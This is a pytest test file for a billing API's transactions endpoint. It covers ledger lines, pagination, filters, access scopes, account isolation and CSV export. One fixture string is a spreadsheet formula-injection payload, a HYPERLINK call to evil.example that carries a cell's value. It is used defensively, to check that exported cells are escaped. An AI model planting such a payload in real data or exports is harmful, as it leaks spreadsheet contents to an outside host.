"""GET /api/v1/account/transactions: exact lines, pages, filters, CSV, and nobody else's money."""

import csv
from datetime import UTC, datetime, timedelta
from io import StringIO
from typing import Any
from uuid import UUID

import pytest
from django.db import connection

from accounts.models import User
from accounts.services.keys import mint_key
from billing import statements
from billing.ledger import history
from billing.selectors import audit, balance
from billing.services.adjust import adjust
from billing.services.capture_hold import capture_hold
from billing.services.credit_deposit import credit_deposit
from billing.services.place_hold import place_hold
from billing.services.release_hold import release_hold
from billing.services.reverse_deposit import reverse_deposit
from core import clock, ids
from core.operations import Scope
from tests.media.customers import Customer, error, new_customer

PATH = "/api/v1/account/transactions"
ATTACK = '=HYPERLINK("http://evil.example/?"&A1)'


@pytest.fixture
def customer(db: None) -> Customer:
    """Somebody without money."""
    return new_customer(deposit=0)


def hold_of(customer: Customer, job_id: UUID, amount: int) -> Any:
    return place_hold(account_id=customer.id, amount=amount, reference=f"job:{job_id}:hold")


def read(customer: Customer, **query: Any) -> tuple[list[dict[str, Any]], str | None]:
    answer = customer.get(PATH, **query)
    assert answer.status_code == 200, answer.content
    body = answer.json()
    assert body.keys() == {"ok", "transactions", "nextCursor"}
    return body["transactions"], body["nextCursor"]


def brief(lines: list[dict[str, Any]]) -> list[tuple[Any, ...]]:
    names = ("kind", "availableChangeUsdMicros", "heldChangeUsdMicros", "owedChangeUsdMicros")
    return [tuple(line[name] for name in (*names, "availableAfterUsdMicros")) for line in lines]


class Story:
    """A deposit, two jobs, a dispute larger than what is left, a repaid debt, an adjustment; and a stranger's money."""

    def __init__(self, customer: Customer) -> None:
        self.deposit, self.second, self.charged, self.failed = (ids.new() for _ in range(4))
        account = customer.id
        credit_deposit(
            account_id=account, amount=5_000_000, provider="stripe", reference=f"deposit:{self.deposit}:paid"
        )
        capture_hold(hold=hold_of(customer, self.charged, 40_000), amount=30_000)
        release_hold(hold=hold_of(customer, self.failed, 100_000))
        reverse_deposit(
            account_id=account,
            amount=5_000_000,
            provider="stripe",
            reference=f"deposit:{self.deposit}:dispute:dp_1:opened",
        )
        credit_deposit(account_id=account, amount=1_000_000, provider="x402", reference=f"deposit:{self.second}:paid")
        adjust(account_id=account, amount=-70_000, reason=ATTACK, reference="adjustment:1", actor=None)
        stranger = new_customer(deposit=1)
        hold_of(stranger, ids.new(), 1)


def test_every_line_is_exact_and_newest_first(customer: Customer) -> None:
    story = Story(customer)
    lines, following = read(customer)
    assert following is None
    assert brief(lines) == [
        ("adjustment", -70_000, 0, 0, 900_000),
        ("deposit", 970_000, 0, 0, 970_000),
        ("repayment", 0, 0, -30_000, 0),
        ("debt", 0, 0, 30_000, 0),
        ("reversal", -4_970_000, 0, 0, 0),
        ("release", 100_000, -100_000, 0, 4_970_000),
        ("hold", -100_000, 100_000, 0, 4_870_000),
        ("release", 10_000, -10_000, 0, 4_970_000),
        ("capture", 0, -30_000, 0, 4_960_000),
        ("hold", -40_000, 40_000, 0, 4_960_000),
        ("deposit", 5_000_000, 0, 0, 5_000_000),
    ]
    job, deposit = ids.encode(ids.JOB, story.charged), ids.encode(ids.DEPOSIT, story.deposit)
    assert lines[8] == {
        "id": lines[8]["id"],
        "at": lines[8]["at"],
        "kind": "capture",
        "label": "Charged",
        "jobId": job,
        "depositId": None,
        "availableChangeUsdMicros": 0,
        "availableChangeUsd": "0",
        "heldChangeUsdMicros": -30_000,
        "heldChangeUsd": "-0.03",
        "owedChangeUsdMicros": 0,
        "owedChangeUsd": "0",
        "availableAfterUsdMicros": 4_960_000,
        "availableAfterUsd": "4.96",
        "reason": "",
    }
    assert [line["depositId"] for line in lines[1:5]] == [ids.encode(ids.DEPOSIT, story.second)] * 2 + [deposit] * 2
    assert lines[0]["reason"] == ATTACK
    assert (lines[0]["jobId"], lines[0]["depositId"]) == (None, None)
    assert len({line["id"] for line in lines}) == 11
    assert sum(line["availableChangeUsdMicros"] for line in lines) == balance(account_id=customer.id).available
    assert audit() == []


@pytest.mark.parametrize("kind", [None, *statements.KINDS])
@pytest.mark.parametrize("limit", [1, 2, 500])
def test_pages_of_every_filter_add_up_to_the_whole(customer: Customer, kind: str | None, limit: int) -> None:
    Story(customer)
    asked = {"kind": kind} if kind else {}
    whole = [line for line in read(customer)[0] if kind in (None, line["kind"])]
    assert whole
    pages, cursor = [], None
    for _ in range(20):
        lines, cursor = read(customer, limit=limit, **asked, **({"cursor": cursor} if cursor else {}))
        assert len(lines) <= limit
        pages += lines
        if cursor is None:
            break
    assert cursor is None
    assert pages == whole


def test_a_job_a_deposit_and_a_range_of_time(customer: Customer) -> None:
    story = Story(customer)
    job, deposit = ids.encode(ids.JOB, story.charged), ids.encode(ids.DEPOSIT, story.deposit)
    assert [line["kind"] for line in read(customer, jobId=job)[0]] == ["release", "capture", "hold"]
    assert [line["kind"] for line in read(customer, jobId=job, kind="capture")[0]] == ["capture"]
    assert [line["kind"] for line in read(customer, depositId=deposit)[0]] == ["debt", "reversal", "deposit"]
    assert [line["kind"] for line in read(customer, depositId=deposit, kind="debt")[0]] == ["debt"]
    assert read(customer, depositId=ids.encode(ids.DEPOSIT, ids.new())) == ([], None)
    lines, _ = read(customer)
    with connection.cursor() as cursor:
        cursor.execute("SELECT created_at FROM billing_transfer WHERE reference = %s", [f"job:{story.failed}:hold"])
        [moment] = cursor.fetchone()
    between = read(customer, before=moment.isoformat())[0], read(customer, after=moment.isoformat())[0]
    assert between == (lines[7:], lines[:6])  # the hold itself is neither later nor earlier
    tomorrow = (datetime.now(UTC) + timedelta(days=1)).isoformat()
    assert read(customer, after=tomorrow) == ([], None)
    assert read(customer, before=tomorrow)[0] == lines


def test_nobody_sees_another_accounts_lines(customer: Customer) -> None:
    story = Story(customer)
    stranger = new_customer(deposit=0)
    for asked in (
        {},
        {"jobId": ids.encode(ids.JOB, story.charged)},
        {"depositId": ids.encode(ids.DEPOSIT, story.deposit)},
    ):
        assert read(stranger, **asked) == ([], None)
    own, _ = read(customer)
    assert read(stranger, cursor=own[0]["id"]) == ([], None)


def test_a_rare_kind_behind_many_others_comes_within_a_bound(
    customer: Customer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A filtered page looks through so many entries and no more; the next goes on where it stopped."""
    monkeypatch.setattr(history, "MOST_SCANNED", 10)
    credit_deposit(account_id=customer.id, amount=1_000_000, provider="stripe", reference=f"deposit:{ids.new()}:paid")
    captured = [ids.new(), ids.new()]
    capture_hold(hold=hold_of(customer, captured[0], 7), amount=7)
    for _ in range(35):
        release_hold(hold=hold_of(customer, ids.new(), 5))
    capture_hold(hold=hold_of(customer, captured[1], 9), amount=9)
    pages, cursor = [], None
    while not pages or cursor:
        lines, cursor = read(customer, kind="capture", limit=2, **({"cursor": cursor} if cursor else {}))
        pages.append([line["heldChangeUsdMicros"] for line in lines])
    assert pages == [[-9], [], [], [-7]]
    assert [line["kind"] for line in read(customer, kind="deposit")[0]] == ["deposit"]  # an index of its own


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"kind": "payout"}, "kind"),
        ({"limit": 0}, "limit"),
        ({"limit": 501}, "limit"),
        ({"limit": "many"}, "limit"),
        ({"cursor": "txn_nonsense"}, "cursor"),
        ({"cursor": "job_00000000000000000000000000"}, "cursor"),
        ({"jobId": "dep_00000000000000000000000000"}, "jobId"),
        ({"depositId": "x"}, "depositId"),
        ({"after": "yesterday"}, "after"),
        ({"before": "2026-01-01T00:00:00"}, "before"),
        ({"format": "xml"}, "format"),
        ({"format": "csv", "limit": 5}, "limit"),
        ({"format": "csv", "cursor": "txn_00000000000000000000000000"}, "cursor"),
        ({"account": "acct_1"}, "account"),
        ({"jobId": "job_00000000000000000000000000", "depositId": "dep_00000000000000000000000000"}, ""),
    ],
)
def test_what_is_refused(customer: Customer, query: dict[str, Any], field: str) -> None:
    body = error(customer.get(PATH, **query), 400, "invalid_request")
    assert list(body["details"]["fields"]) == [field]


def test_it_needs_the_scope(customer: Customer) -> None:
    user = User.objects.get(pk=customer.id)
    narrow = mint_key(user=user, label="narrow", now=clock.now(), scopes=[Scope.MEDIA_READ])
    headers = {"Authorization": f"Bearer {narrow.plain}"}
    error(customer.http.get(PATH, headers=headers), 403, "missing_scope")
    error(customer.http.get(PATH), 401, "unauthenticated")


def rows_of(answer: Any) -> list[dict[str, str]]:
    assert answer.status_code == 200
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"] == 'attachment; filename="transactions.csv"'
    text = b"".join(answer.streaming_content).decode()
    assert text.count("\r\n") == text.count("\n")
    return list(csv.DictReader(StringIO(text)))


@pytest.mark.django_db(transaction=True)
def test_csv_has_every_page_and_no_formula(monkeypatch: pytest.MonkeyPatch) -> None:
    customer = new_customer(deposit=0)
    Story(customer)
    monkeypatch.setattr(statements, "_CSV_PAGE", 2)
    lines, _ = read(customer)
    rows = rows_of(customer.get(PATH, format="csv"))
    shown = [
        {name: "" if value is None else str(value) for name, value in line.items()} | {"reason": row["reason"]}
        for line, row in zip(lines, rows, strict=True)
    ]
    assert rows == shown
    assert rows[0]["reason"] == f"'{ATTACK}"
    assert rows[0]["availableChangeUsd"] == "-0.07"
    assert rows_of(customer.get(PATH, headers={"Accept": "text/csv"})) == rows
    assert [row["kind"] for row in rows_of(customer.get(PATH, format="csv", kind="release"))] == ["release"] * 2
    assert rows_of(new_customer(deposit=0).get(PATH, format="csv")) == []


@pytest.mark.parametrize("reason", ["=1", "+1", "-1", "@x", "\t=1", "  =1", "\r=1"])
def test_a_cell_is_never_a_formula(reason: str) -> None:
    assert statements._harmless(reason) == f"'{reason}"
    assert statements._harmless("refund of 5 - 3 = 2") == "refund of 5 - 3 = 2"


@pytest.mark.django_db(transaction=True)
def test_what_is_written_during_a_download_is_not_in_it(monkeypatch: pytest.MonkeyPatch) -> None:
    customer = new_customer(deposit=0)
    Story(customer)
    monkeypatch.setattr(statements, "_CSV_PAGE", 3)
    whole = [entry.line.id for entry in statements.entries(account_id=customer.id, filters=statements.Filters())]
    seen = []
    for entry in statements.entries(account_id=customer.id, filters=statements.Filters()):
        seen.append(entry.line.id)
        hold_of(customer, ids.new(), 1)
    assert seen == whole
